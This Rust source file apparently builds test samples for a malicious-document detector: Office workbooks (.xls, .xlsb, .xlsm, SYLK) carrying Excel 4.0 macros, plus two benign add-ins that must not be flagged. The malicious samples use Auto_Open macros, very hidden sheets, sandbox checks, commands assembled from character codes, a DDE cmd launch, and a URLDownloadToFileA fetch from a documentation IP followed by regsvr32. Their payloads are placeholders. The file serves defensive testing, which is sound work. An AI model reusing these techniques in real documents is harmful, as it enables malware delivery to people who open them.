//! Workbooks with Excel 4.0 macros in every form that holds them, and the honest tools they must not be taken for.

use crate::Sample;
use crate::office::biff::{Cell, Workbook, binary_sheet, binary_workbook};
use crate::office::cfb::Cfb;
use crate::office::ooxml::Package;

const EXCEL: &str = "00020820-0000-0000-C000-000000000046";
const MACRO_SHEET: &str = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument";

/// The samples.
pub(super) fn all() -> Vec<Sample> {
    vec![
        Sample {
            id: "fo50",
            file_name: "見積書.xls",
            about: "macros that look for a person, build a command of characters, write a script and formulas, and run both",
            make: builder,
        },
        Sample {
            id: "fo51",
            file_name: "納品書.xls",
            about: "a hidden macro sheet in a workbook of Excel 95",
            make: || {
                let book = Workbook::biff5().sheet("Sheet1", 0, 0).sheet("Macro1", 1, 1);
                let book = book.column(&["EXEC(\"harmless-\"&\"none.exe\")", "HALT()"]).auto_open_at(1).build();
                Cfb::new().class("", "00020810-0000-0000-C000-000000000046").stream("Book", book).build()
            },
        },
        Sample {
            id: "fo52",
            file_name: "発注書.xlsb",
            about: "a very hidden macro sheet in a binary workbook that downloads and starts a program",
            make: binary,
        },
        Sample {
            id: "fo53",
            file_name: "請求一覧.xlsm",
            about: "macros as text in an XML workbook, with a registered function and shared formulas",
            make: text,
        },
        Sample {
            id: "fo54",
            file_name: "明細.slk",
            about: "macros in a SYLK file that start a shell",
            make: || {
                b"ID;PWXL;N;E\r\nO;L;E;D;V0;K47\r\nNN;NAuto_Open;ER1C1\r\n\
                  C;Y1;X1;K0;EGOTO(R[1]C)\r\nC;Y2;K0;EEXEC(\"cmd /c harmless-none\")\r\nC;Y3;K0;EHALT()\r\nE\r\n"
                    .to_vec()
            },
        },
        Sample {
            id: "fo55",
            file_name: "単価.slk",
            about: "a SYLK file whose cell starts a shell over DDE",
            make: || b"ID;P\r\nC;Y1;X1;K0;Ecmd|'/c harmless-none'!A0\r\nE\r\n".to_vec(),
        },
        Sample {
            id: "b50",
            file_name: "並べ替え.xla",
            about: "an honest add-in of the 1990s: a very hidden macro sheet that adds a menu when it opens",
            make: || {
                let book = Workbook::new().sheet("Menu", 2, 1).column(&[
                    "ECHO(FALSE)",
                    "ADD.MENU(1,B1)",
                    "ADD.COMMAND(1,\"Tools\",B1)",
                    "FORMULA(\"=SUM(RC[-1]:R[3]C)\",$Z$9)",
                    "RETURN()",
                ]);
                let book = book.cell(0, 1, Cell::Text("Sort".to_owned())).auto_open_at(0).build();
                Cfb::new().class("", EXCEL).stream("Workbook", book).build()
            },
        },
        Sample {
            id: "b51",
            file_name: "計算.xls",
            about: "an honest workbook whose macro sheet calls the library of its own add-in",
            make: || {
                let book = Workbook::new().sheet("Sheet1", 0, 0).sheet("計算", 0, 1).column(&[
                    "REGISTER(\"CALC32.DLL\",\"Solve\",\"BB\",\"Solve\")",
                    "CALL(\"CALC32.DLL\",\"Init\",\"J\")",
                    "RETURN()",
                ]);
                Cfb::new().class("", EXCEL).stream("Workbook", book.auto_open_at(1).build()).build()
            },
        },
    ]
}

fn builder() -> Vec<u8> {
    let book = Workbook::new().sheet("見積書", 0, 0).cell(0, 0, Cell::Text("harmless-none".to_owned()));
    let book = book.sheet("Macro1", 2, 1).column(&[
        "IF(GET.WORKSPACE(13)<770,CLOSE(FALSE))",
        "IF(GET.WORKSPACE(42),,CLOSE(FALSE))",
        "FOPEN(\"harmless-none.vbs\",3)",
        "FWRITELN(A3,\"' nothing\")",
        "FCLOSE(A3)",
        "SET.NAME(\"c\",CHAR(B1)&CHAR(B2)&CHAR(B3)&CHAR(B4)&CHAR(B5))",
        "FORMULA(\"=EX\"&\"EC(\"\"\"&B6&B7&\" harmless-none.vbs\"\")\",A9)",
        "GOTO(A9)",
    ]);
    let codes = [119u8, 115, 99, 114, 105];
    let book = codes
        .iter()
        .enumerate()
        .fold(book, |book, (row, code)| book.cell(row as u16, 1, Cell::Number(f64::from(*code))));
    let book = book.cell(5, 1, Cell::Text("wscr".to_owned())).cell(6, 1, Cell::Text("ipt".to_owned()));
    Cfb::new().class("", EXCEL).stream("Workbook", book.auto_open_at(1).build()).build()
}

fn binary() -> Vec<u8> {
    let sheet = binary_sheet(&[
        "CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http\"&\"://198.51.100.7/x\",\"harmless-none.dll\",0,0)",
        "EXEC(\"regsvr32 harmless-none.dll\")",
        "HALT()",
    ]);
    Package::default()
        .part(
            "xl/workbook.bin",
            "application/vnd.ms-excel.sheet.binary.macroEnabled.main",
            binary_workbook(&[("rId1", "Macro1", 2)], 0),
        )
        .part("xl/macrosheets/sheet1.bin", "application/vnd.ms-excel.macrosheet", sheet)
        .relation("", OFFICE, "xl/workbook.bin", false)
        .relation("xl/workbook.bin", MACRO_SHEET, "macrosheets/sheet1.bin", false)
        .build()
}

fn text() -> Vec<u8> {
    let workbook = "<workbook xmlns:r=\"r\"><sheets><sheet name=\"Macro1\" state=\"veryHidden\" r:id=\"rId1\"/></sheets>\
                    <definedNames><definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName></definedNames></workbook>";
    let sheet = "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>\
                 <row r=\"1\"><c r=\"A1\"><f>REGISTER(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",\"go\",,1,9)</f></c></row>\
                 <row r=\"2\"><c r=\"A2\"><f>go(0,\"open\",B2&amp;B3,\"/c harmless-none\",0,0)</f></c>\
                 <c r=\"B2\" t=\"inlineStr\"><is><t>c</t></is></c></row>\
                 <row r=\"3\"><c r=\"A3\"><f>HALT()</f></c><c r=\"B3\" t=\"inlineStr\"><is><t>md.exe</t></is></c></row>\
                 </sheetData></xm:macrosheet>";
    Package::default()
        .part("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", workbook)
        .part("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", sheet)
        .relation("", OFFICE, "xl/workbook.xml", false)
        .relation("xl/workbook.xml", MACRO_SHEET, "macrosheets/sheet1.xml", false)
        .build()
}
